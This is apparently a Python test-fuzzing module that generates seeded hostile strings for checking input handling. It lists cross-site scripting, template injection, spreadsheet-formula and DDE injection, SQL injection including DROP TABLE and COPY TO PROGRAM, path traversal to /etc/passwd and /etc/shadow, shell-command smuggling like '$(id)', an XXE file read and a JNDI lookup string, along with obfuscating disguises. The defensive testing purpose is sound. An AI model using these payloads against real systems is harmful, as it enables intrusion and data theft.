"""Texts that try to be code somewhere: any number of different ones, the same for the same seed.

A text that runs shows: it sets `window.hacked`, opens a dialog, asks the host `canary.invalid` or
computes 1337 (7 times 191). Families are multiplied by disguises, as attackers do it. Sources of
the families: OWASP's cheat sheets on cross-site scripting, CSV and log injection; the Unicode
reports 36 and 39; Microsoft's list of device names.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from html.parser import HTMLParser

_MARKUP = (
    "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>",
    "<svg/onload=alert(1)>", "</script><script>window.hacked=2</script>", "</style></title><b>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>", "<a href=javascript:alert(2)>x</a>",
    "<link rel=stylesheet href=//canary.invalid/a.css>", "<img src=//canary.invalid/i.png>",
    "<body onload=alert(3)>", "<base href=//canary.invalid/>", "<form action=//canary.invalid>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>", "<!--<img src=\"-->",
    "\"onmouseover=window.hacked=3 x=\"", "'onfocus=window.hacked=4 autofocus='", "<![CDATA[x]]>",
    "<meta http-equiv=refresh content=0;url=//canary.invalid>", "<plaintext>", "<textarea>",
    "<template><script>alert(5)</script></template>", "&lt;script&gt;alert(6)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(7)&#62;", "<object data=//canary.invalid>", "<marquee onstart=x>",
    "<svg><use href=//canary.invalid#x /></svg>", "<svg><style>@import'//canary.invalid'</style>",
    "<details open ontoggle=window.hacked=5>", "<video><source onerror=window.hacked=6>",
)  # fmt: skip
_SCRIPT = (
    "';window.hacked=7;//", "\";window.hacked=8;//", "`;window.hacked=9;`", "${window.hacked=10}",
    "\\';window.hacked=11;//", "\u2028window.hacked=12\u2029", "\\u003cscript\\u003ealert(8)",
    "javascript:window.hacked=13", "data:text/html,<script>alert(9)</script>", "]]>",
    "*/alert(1)/*", "__proto__", "constructor", "hasOwnProperty", "toString", "{\"$ne\":null}",
    "[object Object]",
)  # fmt: skip
_STYLE = (
    "expression(alert(1))", "background:url(//canary.invalid/b)", "};*{display:none}",
    "@import url(//canary.invalid/c);", "\\3c script\\3e",
)  # fmt: skip
_TEMPLATE = (
    "{{7*191}}", "{% import os %}", "{# c #}", "${7*191}", "#{7*191}", "<%= 7*191 %>",
    "{{''.__class__}}", "{{config}}", "{% raw %}", "{%", "}}", "{{", "[[7*191]]", "@(7*191)",
    "*{7*191}", "{0.__class__}", "{count}", "{}", "{0}", "%(name)s", "%s%n%x", "%d", "$x^2$",
    ":red[x]", "![i](//canary.invalid/m)", "[l](javascript:alert(1))", "**b**", "# h", "| a | b |",
    ":material/home:",
)  # fmt: skip
_FORMULA = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://canary.invalid\",\"x\")", "=WEBSERVICE(\"http://canary.invalid\")",
    "＝1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@IMPORTXML(\"http://canary.invalid\")", "\u200b=1+1",
    "\ufeff=1+1", "'=1+1", "\"=1+1", "=1+1\";=2+2", ";=1+1", ",=1+1", "-2+3+cmd|' /C calc'!A0",
    "\u00a0=1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u2028=1+1",
)  # fmt: skip
_SQL = (
    "' OR '1'='1", "'; DROP TABLE cases;--", "\" OR \"\"=\"", "1; ATTACH DATABASE '/tmp/x' AS y",
    "') UNION SELECT sealed FROM teams--", "%' OR 1=1 --", "_%", "\\'; SELECT pg_sleep(9)--",
    "$$x$$", "E'\\x00'", ":name", "?", "%(x)s", "COPY cases TO PROGRAM 'id'",
    "x' AND 1=CAST((SELECT 1) AS int)--",
)  # fmt: skip
_PATH = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\boot.ini",
    "\\\\canary.invalid\\x", "file:///etc/passwd", "%2e%2e%2f", "....//", "~root", "CON", "PRN",
    "NUL", "AUX.txt", "COM1", "LPT1", "a/b", "a\\b", ".", "..", ".htaccess", "x:y", "x|y", "x*y?",
    "-rf", "--help", "$(id)", "`id`", ";id", "|id", "&&id", "name.", "name ", "$HOME", "%PATH%",
)  # fmt: skip
_SIGNS = (
    "\x00", "a\x00b", "\x1b[31mred", "\x07", "\x08\x08", "a\nb", "a\r\nb", "\r\n\r\n<html>", "\x7f",
    "\u202egnp.exe", "\u2066x\u2069", "\u200b", "a\u200bb", "\u200d", "\ufeff", "\u00ad", "\ud800",
    "a\udfff", "\ufffe", "\uffff", "\U0010ffff", "\ue000", "مرحبا", "שלום", "\u0301", "e\u0301",
    "é", "Z\u0351\u036b\u0343\u036a", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇧🇬", "ﬁ", "İ", "ı", "ß", "Å", "Ⅳ", "①",
    "ſ", "ά", "\u1fbb", "аdmin", "admin\u0430", "Cливница", "\t", " ", "\u3000", "\u00a0",
    "\u2003x", "\v", "\f", "\x85",
)  # fmt: skip
_DATA = (
    "{\"a\":1}", "[1,2", "\"", "\\", "\\u0000", "null", "undefined", "NaN", "Infinity", "-0",
    "1e309", "0x10", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&e;", "&amp;", "&#x0;", "&lt",
    "a,b;c\td", "\"a\"\"b", "a\"b,c", "2026-13-45", "1900-01-00", "true", "=",
)  # fmt: skip
_LOG = (
    "x\n2026-01-01T00:00:00 root save_user ok", "x\r\nSet-Cookie: a=b", "%0d%0aX: y", "x\u2028root",
    "${jndi:ldap://canary.invalid/a}", "x\x1b]0;title\x07", "x\u0085root",
)  # fmt: skip
FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": _MARKUP, "script": _SCRIPT, "style": _STYLE, "template": _TEMPLATE,
    "formula": _FORMULA, "sql": _SQL, "path": _PATH, "signs": _SIGNS, "data": _DATA, "log": _LOG,
}  # fmt: skip

_ALL = tuple(text for family in FAMILIES.values() for text in family)
Disguise = Callable[[str, random.Random], str]
_DISGUISES: tuple[Disguise, ...] = (
    lambda text, _: text,
    lambda text, _: text.swapcase(),
    lambda text, _: f"ул. {text} 5",
    lambda text, _: f"{text} „Роза“ №7",
    lambda text, _: f" {text}\t",
    lambda text, _: unicodedata.normalize("NFD", text),
    lambda text, _: "".join(f"{sign}\u200b" for sign in text),
    lambda text, chance: text * chance.randint(2, 40),
    lambda text, chance: _cut_in(text, chance.choice("\x00\n\u202e\\/'\"")),
    lambda text, chance: text + chance.choice(_ALL),
    lambda text, chance: chance.choice(_ALL) + text,
    lambda text, _: f"{text}{'я' * 4_000}",
    lambda text, _: f"\u202e{text}\u202c",
    lambda text, _: "".join(f"\\u{ord(sign):04x}" for sign in text if ord(sign) < 0x10000),
    lambda text, _: "".join(f"&#{ord(sign)};" for sign in text),
    lambda text, _: "".join(map(_wide, text)),
)  # fmt: skip


def _wide(sign: str) -> str:
    """The twin of a sign that is as wide as a Chinese one."""
    return chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign


def _cut_in(text: str, sign: str) -> str:
    middle = len(text) // 2
    return text[:middle] + sign + text[middle:]


def strings(count: int, *, seed: int = 6) -> list[str]:
    """So many different hostile texts; every family as it stands is among the first 300."""
    chance = random.Random(seed)
    plain = chance.sample(_ALL, len(_ALL))
    found = dict.fromkeys(plain)
    while len(found) < count:
        text = chance.choice(_DISGUISES)(chance.choice(plain), chance)
        if chance.random() < 0.4:
            text = chance.choice(_DISGUISES)(text[:200], chance)
        found[text] = None
    return list(found)[:count]


def storable(text: str) -> bool:
    """Whether any encoding holds it: without half characters."""
    return not any("\ud800" <= sign <= "\udfff" for sign in text)


class Shape(HTMLParser):
    """A page's elements and attributes in order, without the texts and values in them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {' '.join(name for name, _ in attrs)}")

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_comment(self, _data: str) -> None:
        self.found.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)


def shape(html: str) -> list[str]:
    """What `Shape` finds in a page."""
    parser = Shape()
    parser.feed(html)
    parser.close()
    return parser.found


def is_formula(cell: str) -> bool:
    """What a spreadsheet program would compute: OWASP's signs, or their wide twins, in front.

    White space before them counts for nothing: programs trim it.
    """
    lead = cell.lstrip()
    return lead[:1] in tuple("=+-@＝＋－＠") and not _number(lead)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return "n" not in cell.lower()  # -inf and nan are words


def batches(texts: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    """`texts` in pieces of `size`."""
    return (texts[first : first + size] for first in range(0, len(texts), size))
